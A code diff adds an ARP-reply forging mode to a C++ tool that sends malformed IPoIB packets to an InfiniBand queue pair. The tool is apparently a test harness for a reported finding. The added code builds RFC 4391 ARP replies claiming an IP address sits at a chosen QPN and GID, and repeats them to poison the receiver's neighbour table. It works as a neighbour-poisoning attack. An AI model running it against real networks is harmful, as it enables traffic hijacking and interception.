@@ -17,9 +17,20 @@
 // how many of each went:
 //   sent N malformed M ethertype E other O qpn OWN_QPN
 //   openib-ud-garbage --lid L --qpn Q --qkey K [--count N] [--seed S]
+//
+// --forge-arp IP (issue 29, finding 11; ipoib.sh): instead, N well-formed
+// IB ARP replies (RFC 4391 §8) saying that IP is at the 20-byte address
+// --claim-qpn/--claim-gid (RFC 4391 §9.1.1), to --target-ip at the
+// receiver, one every --interval-ms (past the kernel's neighbour locktime),
+// as an attacker poisoning the receiver's neighbour table would send them.
+// The WQEs carry --qkey as given (bit 31 set: the device uses the QP's own,
+// IBA 10.2.4 C10-15); the QP's own Q_Key is --qp-qkey (default --qkey when
+// that is not controlled, else 0: an unprivileged user may set no other).
+//   forged N qpn OWN_QPN
 #include <unistd.h>
 
 #include <CLI/CLI.hpp>
+#include <array>
 #include <chrono>
 #include <cstdio>
 #include <random>
@@ -233,12 +244,46 @@ class Generator {
   std::mt19937_64 rng_;
 };
 
+// "fe80:0000:...:0001" or 32 hex digits; false if it is neither.
+bool parse_gid(const std::string& text, std::array<uint8_t, 16>& gid) {
+  std::string hex;
+  for (char c : text)
+    if (c != ':') hex.push_back(c);
+  if (hex.size() != 32 || hex.find_first_not_of("0123456789abcdefABCDEF") != std::string::npos) return false;
+  for (size_t i = 0; i < 16; ++i) gid[i] = uint8_t(std::stoul(hex.substr(2 * i, 2), nullptr, 16));
+  return true;
+}
+
+bool parse_ipv4(const std::string& text, Bytes& out) {
+  unsigned a, b, c, d;
+  char tail;
+  if (std::sscanf(text.c_str(), "%u.%u.%u.%u%c", &a, &b, &c, &d, &tail) != 4 || a > 255 || b > 255 || c > 255 ||
+      d > 255)
+    return false;
+  out = {uint8_t(a), uint8_t(b), uint8_t(c), uint8_t(d)};
+  return true;
+}
+
+// An IB ARP reply (RFC 4391 §8: htype 32, ptype IPv4, hlen 20, plen 4,
+// oper 2) behind the IPoIB header: sender (sha, spa), target (0, tpa).
+Bytes forged_arp_reply(uint32_t sha_qpn, const std::array<uint8_t, 16>& sha_gid, const Bytes& spa, const Bytes& tpa) {
+  Bytes p = {0x08, 0x06, 0, 0, 0, 32, 0x08, 0x00, 20, 4, 0, 2};
+  p += Bytes{0, uint8_t(sha_qpn >> 16), uint8_t(sha_qpn >> 8), uint8_t(sha_qpn)};
+  p += Bytes(sha_gid.begin(), sha_gid.end());
+  p += spa;
+  p += Bytes(20, 0);
+  p += tpa;
+  return p;
+}
+
 }  // namespace
 
 int main(int argc, char** argv) {
   uint32_t lid = 0, qpn = 0, qkey = 0, count = 1000;
   uint64_t seed = 1;
-  std::string socket;
+  std::string socket, forge_ip, claim_gid_text, target_ip_text;
+  uint32_t claim_qpn = 0, interval_ms = 100;
+  int64_t qp_qkey_in = -1;  // not given
   CLI::App app{"openib-ud-garbage: malformed IPoIB packets as UD SENDs to one QP"};
   app.add_option("--lid", lid, "the receiver's LID")->required()->check(CLI::Range(1, 0xBFFF));
   app.add_option("--qpn", qpn, "the receiver's QPN")->required()->check(CLI::Range(1, 0xFFFFFE));
@@ -246,7 +291,20 @@ int main(int argc, char** argv) {
   app.add_option("--count", count, "packets to send (default 1000)");
   app.add_option("--seed", seed, "the generator's seed (default 1)");
   app.add_option("--socket", socket, "ibd's socket (default $OPENIB_SOCKET, else /run/ibd/ibd.sock)");
+  auto* forge = app.add_option("--forge-arp", forge_ip, "send forged ARP replies for this IPv4 address instead");
+  app.add_option("--claim-qpn", claim_qpn, "the QPN the forged replies name")->needs(forge)->check(CLI::Range(1, 0xFFFFFF));
+  app.add_option("--claim-gid", claim_gid_text, "the GID the forged replies name")->needs(forge);
+  app.add_option("--target-ip", target_ip_text, "the receiver's IPv4 address (the replies' target)")->needs(forge);
+  app.add_option("--interval-ms", interval_ms, "between forged replies (default 100)")->needs(forge);
+  app.add_option("--qp-qkey", qp_qkey_in, "the QP's own Q_Key (default: --qkey unless bit 31 is set, else 0)")
+      ->check(CLI::Range(int64_t{0}, int64_t{0xFFFFFFFF}));
   CLI11_PARSE(app, argc, argv);
+  std::array<uint8_t, 16> claim_gid{};
+  Bytes spa, tpa;
+  if (!forge_ip.empty() && (!parse_ipv4(forge_ip, spa) || !parse_ipv4(target_ip_text, tpa) ||
+                            !parse_gid(claim_gid_text, claim_gid) || claim_qpn == 0))
+    die("--forge-arp needs an IPv4 address, --target-ip, --claim-qpn and --claim-gid (32 hex digits)");
+  const uint32_t qp_qkey = qp_qkey_in >= 0 ? uint32_t(qp_qkey_in) : (qkey & 0x80000000u) ? 0 : qkey;
 
   ContextOptions copts;
   copts.socket = socket;
@@ -263,7 +321,7 @@ int main(int argc, char** argv) {
   QpAttr a;
   a.state = QpState::kInit;
   a.port = 1;
-  a.qkey = qkey;
+  a.qkey = qp_qkey;
   check(qp->modify(a, qp_attr::kState | qp_attr::kPkeyIndex | qp_attr::kPort | qp_attr::kQkey), "QP to INIT");
   a = {};
   a.state = QpState::kRtr;
@@ -273,6 +331,39 @@ int main(int argc, char** argv) {
   AddressVector av;
   av.dlid = uint16_t(lid);
   auto ah = check(ctx->create_ah(*pd, av), "creating the AH");
+
+  // One signaled SEND of `p` from slot 0, waited for.
+  auto send_one = [&](const Bytes& p) {
+    auto* slot = static_cast<uint8_t*>(mr->addr());
+    std::copy(p.begin(), p.end(), slot);
+    Sge sg{reinterpret_cast<uint64_t>(slot), uint32_t(p.size()), mr->lkey()};
+    SendWr wr;
+    wr.flags = kSendSignaled;
+    wr.sg = std::span(&sg, 1);
+    wr.ah = ah.get();
+    wr.remote_qpn = qpn;
+    wr.remote_qkey = qkey;
+    if (int err = qp->post_send(wr)) die(std::string("posting a send: ") + std::strerror(err));
+    const auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(10);
+    for (;;) {
+      Wc wc[1];
+      const int k = cq->poll(wc);
+      if (k < 0) die("polling the CQ failed");
+      if (k == 1 && wc[0].status != kWcSuccess) die(std::string("send completion: ") + wc_status_str(wc[0].status));
+      if (k == 1) return;
+      if (std::chrono::steady_clock::now() > deadline) die("no send completion for 10 s");
+      ::usleep(100);
+    }
+  };
+  if (!forge_ip.empty()) {
+    const Bytes p = forged_arp_reply(claim_qpn, claim_gid, spa, tpa);
+    for (uint32_t i = 0; i < count; ++i) {
+      send_one(p);
+      ::usleep(interval_ms * 1000);
+    }
+    std::printf("forged %u qpn %u\n", count, qp->qp_num());
+    return 0;
+  }
 
   Generator gen(seed);
   auto* buf = static_cast<uint8_t*>(mr->addr());
